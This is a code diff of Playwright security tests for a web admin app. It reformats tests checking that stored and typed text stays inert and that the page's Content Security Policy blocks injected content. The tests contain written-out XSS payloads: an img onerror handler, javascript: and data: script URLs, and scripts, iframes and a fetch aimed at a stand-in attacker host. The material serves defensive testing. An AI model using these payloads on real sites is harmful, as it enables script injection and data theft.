@@ -11,6 +11,7 @@ import {
   visitAnew,
 } from '#test/browser/support/console.ts';
 import { watchHarm } from '#test/browser/support/watch.ts';
+import { proves } from '#test/support/proves.ts';
 
 const BUNDLES = HOSTILE_BUNDLES.length;
 const id = (i: number) => `hostile-${i}`;
@@ -107,49 +108,51 @@ async function settled(page: Page): Promise<void> {
   await expect(page.locator('[aria-busy="true"]')).toHaveCount(0);
 }
 
-test('stored texts stay texts in cells, tooltips, panels, headings, raw data and forms [S9, T16]', async ({
-  page,
-}) => {
-  test.setTimeout(300_000);
-  const harm = watchHarm(page);
-  await signIn(page, 'Iris Viewer');
-  await page.getByRole('button', { name: 'Sign Out' }).click();
-  await signIn(page, 'Ada Admin');
-  let sinks = 0;
-  for (const [path, fields] of LISTS) {
-    await visitAnew(page, path);
-    await settled(page);
-    await harm.look(path);
-    const expanders = page.locator('tbody button[aria-expanded="false"]');
-    if ((await expanders.count()) > 0) {
-      await expanders.first().click();
-      await harm.look(`${path}, opened`);
-    }
-    sinks += fields.split(' ').length;
-  }
-  for (const [path, fields] of DETAILS) {
-    for (let i = 0; i < BUNDLES; i += 1) {
-      const address = path.replace(':id', id(i)).replace(':email', encodeURIComponent(email(i)));
-      await visitAnew(page, address);
+test(
+  'stored texts stay texts in cells, tooltips, panels, headings, raw data and forms',
+  proves('S9', 'T16'),
+  async ({ page }) => {
+    test.setTimeout(300_000);
+    const harm = watchHarm(page);
+    await signIn(page, 'Iris Viewer');
+    await page.getByRole('button', { name: 'Sign Out' }).click();
+    await signIn(page, 'Ada Admin');
+    let sinks = 0;
+    for (const [path, fields] of LISTS) {
+      await visitAnew(page, path);
       await settled(page);
-      for (const name of ['Show history', 'Show raw data']) {
-        const more = page.getByRole('button', { name });
-        if (i === 0 && (await more.count()) > 0) await more.click();
+      await harm.look(path);
+      const expanders = page.locator('tbody button[aria-expanded="false"]');
+      if ((await expanders.count()) > 0) {
+        await expanders.first().click();
+        await harm.look(`${path}, opened`);
       }
-      await settled(page);
-      await harm.look(address);
+      sinks += fields.split(' ').length;
     }
-    sinks += fields.split(' ').length;
-  }
-  expect(HOSTILE_TEXTS.length).toBeGreaterThanOrEqual(80);
-  recordFigure({
-    goal: 'S9',
-    name: 'stored payloads',
-    value: harm.seen.length,
-    trials: sinks * HOSTILE_TEXTS.length,
-  });
-  expect(harm.seen).toEqual([]);
-});
+    for (const [path, fields] of DETAILS) {
+      for (let i = 0; i < BUNDLES; i += 1) {
+        const address = path.replace(':id', id(i)).replace(':email', encodeURIComponent(email(i)));
+        await visitAnew(page, address);
+        await settled(page);
+        for (const name of ['Show history', 'Show raw data']) {
+          const more = page.getByRole('button', { name });
+          if (i === 0 && (await more.count()) > 0) await more.click();
+        }
+        await settled(page);
+        await harm.look(address);
+      }
+      sinks += fields.split(' ').length;
+    }
+    expect(HOSTILE_TEXTS.length).toBeGreaterThanOrEqual(80);
+    recordFigure({
+      goal: 'S9',
+      name: 'stored payloads',
+      value: harm.seen.length,
+      trials: sinks * HOSTILE_TEXTS.length,
+    });
+    expect(harm.seen).toEqual([]);
+  },
+);
 
 const ADDRESSES = [
   '/users?q=*',
@@ -166,95 +169,101 @@ const ADDRESSES = [
   '/no/such/page?next=*#*',
 ];
 
-test('texts in addresses and in what is typed stay texts in fields, chips, messages and file names [S9, T16]', async ({
-  page,
-  pageErrors,
-}) => {
-  test.setTimeout(420_000);
-  pageErrors.allow(/attempted to overwrite/);
-  const harm = watchHarm(page);
-  await signIn(page, 'Ada Admin');
-  for (const address of ADDRESSES) {
-    for (const bundle of HOSTILE_BUNDLES) {
-      await visitAnew(page, address.replaceAll('*', encodeURIComponent(bundle)));
-      await expect(page.getByRole('banner')).toBeVisible();
-      await settled(page);
-      await harm.look(address);
+test(
+  'texts in addresses and in what is typed stay texts in fields, chips, messages and file names',
+  proves('S9', 'T16'),
+  async ({ page, pageErrors }) => {
+    test.setTimeout(420_000);
+    pageErrors.allow(/attempted to overwrite/);
+    const harm = watchHarm(page);
+    await signIn(page, 'Ada Admin');
+    for (const address of ADDRESSES) {
+      for (const bundle of HOSTILE_BUNDLES) {
+        await visitAnew(page, address.replaceAll('*', encodeURIComponent(bundle)));
+        await expect(page.getByRole('banner')).toBeVisible();
+        await settled(page);
+        await harm.look(address);
+      }
     }
-  }
-  await visit(page, '/roles');
-  const name = page.getByRole('textbox', { name: 'New role' });
-  for (const bundle of HOSTILE_BUNDLES) {
-    await name.fill(bundle);
+    await visit(page, '/roles');
+    const name = page.getByRole('textbox', { name: 'New role' });
+    for (const bundle of HOSTILE_BUNDLES) {
+      await name.fill(bundle);
+      await page.getByRole('button', { name: 'Create role' }).click();
+      await expect(name).toHaveAttribute('aria-invalid', 'true');
+      await harm.look('the message of a refused role');
+    }
+    const short = '<img src=x onerror=window.__hacked=1>';
+    await name.fill(short);
     await page.getByRole('button', { name: 'Create role' }).click();
-    await expect(name).toHaveAttribute('aria-invalid', 'true');
-    await harm.look('the message of a refused role');
-  }
-  const short = '<img src=x onerror=window.__hacked=1>';
-  await name.fill(short);
-  await page.getByRole('button', { name: 'Create role' }).click();
-  await expect(page.getByText(`Role ${short} was created.`)).toBeVisible();
-  await harm.look('a toast');
-  await visit(page, `/users?q=${encodeURIComponent(short)}`);
-  await expect(page.getByRole('heading', { name: 'Users', level: 1 })).toBeVisible();
-  const download = page.waitForEvent('download');
-  await page.getByRole('button', { name: 'Export CSV' }).click();
-  expect((await download).suggestedFilename()).toMatch(/^[\w.-]+\.csv$/);
-  const sinks = ADDRESSES.length + 1;
-  recordFigure({
-    goal: 'S9',
-    name: 'typed and linked payloads',
-    value: harm.seen.length,
-    trials: sinks * HOSTILE_TEXTS.length,
-  });
-  expect(harm.seen).toEqual([]);
-});
+    await expect(page.getByText(`Role ${short} was created.`)).toBeVisible();
+    await harm.look('a toast');
+    await visit(page, `/users?q=${encodeURIComponent(short)}`);
+    await expect(page.getByRole('heading', { name: 'Users', level: 1 })).toBeVisible();
+    const download = page.waitForEvent('download');
+    await page.getByRole('button', { name: 'Export CSV' }).click();
+    expect((await download).suggestedFilename()).toMatch(/^[\w.-]+\.csv$/);
+    const sinks = ADDRESSES.length + 1;
+    recordFigure({
+      goal: 'S9',
+      name: 'typed and linked payloads',
+      value: harm.seen.length,
+      trials: sinks * HOSTILE_TEXTS.length,
+    });
+    expect(harm.seen).toEqual([]);
+  },
+);
 
-test('a stored address that is no http address is no link [S9, T17]', async ({ page }) => {
-  const setting = stageDb().doc('tempest/flagsmith');
-  await setting.set({ link: 'https://flags.example.com/' });
-  const harm = watchHarm(page);
-  await signIn(page, 'Sam Staff');
-  await page.getByRole('button', { name: 'External' }).click();
-  const link = page.getByRole('link', { name: /Feature Flags/ });
-  for (const url of HOSTILE_URLS) {
+test(
+  'a stored address that is no http address is no link',
+  proves('S9', 'T17'),
+  async ({ page }) => {
+    const setting = stageDb().doc('tempest/flagsmith');
     await setting.set({ link: 'https://flags.example.com/' });
-    await expect(link).toHaveCount(1);
-    await setting.set({ link: url });
-    await expect(link, url).toHaveCount(0);
-  }
-  await harm.look('the feature-flag link');
-  expect(harm.seen.filter((what) => !what.includes(`flags.${EVIL}`))).toEqual([]);
-});
+    const harm = watchHarm(page);
+    await signIn(page, 'Sam Staff');
+    await page.getByRole('button', { name: 'External' }).click();
+    const link = page.getByRole('link', { name: /Feature Flags/ });
+    for (const url of HOSTILE_URLS) {
+      await setting.set({ link: 'https://flags.example.com/' });
+      await expect(link).toHaveCount(1);
+      await setting.set({ link: url });
+      await expect(link, url).toHaveCount(0);
+    }
+    await harm.look('the feature-flag link');
+    expect(harm.seen.filter((what) => !what.includes(`flags.${EVIL}`))).toEqual([]);
+  },
+);
 
-test('the policy of the page stops a script that got into it all the same [S9]', async ({
-  page,
-  pageErrors,
-}) => {
-  pageErrors.allow(/Content Security Policy|Refused to|violates/);
-  await signIn(page, 'Sam Staff');
-  const asked: string[] = [];
-  // What the policy stops is told as a request that failed before it left.
-  page.on('response', (response) => void asked.push(response.url()));
-  page.on('requestfailed', (request) => {
-    if (request.failure()?.errorText !== 'csp') asked.push(request.url());
-  });
-  await page.evaluate((evil) => {
-    const add = (tag: string, fields: object) =>
-      document.body.append(Object.assign(document.createElement(tag), fields));
-    add('script', { textContent: 'window.__hacked = "inline"' });
-    add('script', { src: `https://${evil}/x.js` });
-    add('script', { src: 'data:text/javascript,window.__hacked="data"' });
-    add('iframe', { src: `https://${evil}/frame` });
-    add('object', { data: `https://${evil}/x` });
-    add('div', { innerHTML: '<img src="data:," onerror="window.__hacked=\'handler\'">' });
-    add('base', { href: `https://${evil}/` });
-    add('a', { href: 'javascript:window.__hacked="link"', id: 'script-link' });
-    document.getElementById('script-link')?.click();
-    return fetch(`https://${evil}/data`).catch(() => undefined);
-  }, EVIL);
-  await page.waitForTimeout(500);
-  expect(await page.evaluate(() => '__hacked' in window)).toBe(false);
-  expect(await page.evaluate(() => document.baseURI)).toContain('localhost');
-  expect(asked.filter((url) => url.includes(EVIL))).toEqual([]);
-});
+test(
+  'the policy of the page stops a script that got into it all the same',
+  proves('S9'),
+  async ({ page, pageErrors }) => {
+    pageErrors.allow(/Content Security Policy|Refused to|violates/);
+    await signIn(page, 'Sam Staff');
+    const asked: string[] = [];
+    // What the policy stops is told as a request that failed before it left.
+    page.on('response', (response) => void asked.push(response.url()));
+    page.on('requestfailed', (request) => {
+      if (request.failure()?.errorText !== 'csp') asked.push(request.url());
+    });
+    await page.evaluate((evil) => {
+      const add = (tag: string, fields: object) =>
+        document.body.append(Object.assign(document.createElement(tag), fields));
+      add('script', { textContent: 'window.__hacked = "inline"' });
+      add('script', { src: `https://${evil}/x.js` });
+      add('script', { src: 'data:text/javascript,window.__hacked="data"' });
+      add('iframe', { src: `https://${evil}/frame` });
+      add('object', { data: `https://${evil}/x` });
+      add('div', { innerHTML: '<img src="data:," onerror="window.__hacked=\'handler\'">' });
+      add('base', { href: `https://${evil}/` });
+      add('a', { href: 'javascript:window.__hacked="link"', id: 'script-link' });
+      document.getElementById('script-link')?.click();
+      return fetch(`https://${evil}/data`).catch(() => undefined);
+    }, EVIL);
+    await page.waitForTimeout(500);
+    expect(await page.evaluate(() => '__hacked' in window)).toBe(false);
+    expect(await page.evaluate(() => document.baseURI)).toContain('localhost');
+    expect(asked.filter((url) => url.includes(EVIL))).toEqual([]);
+  },
+);
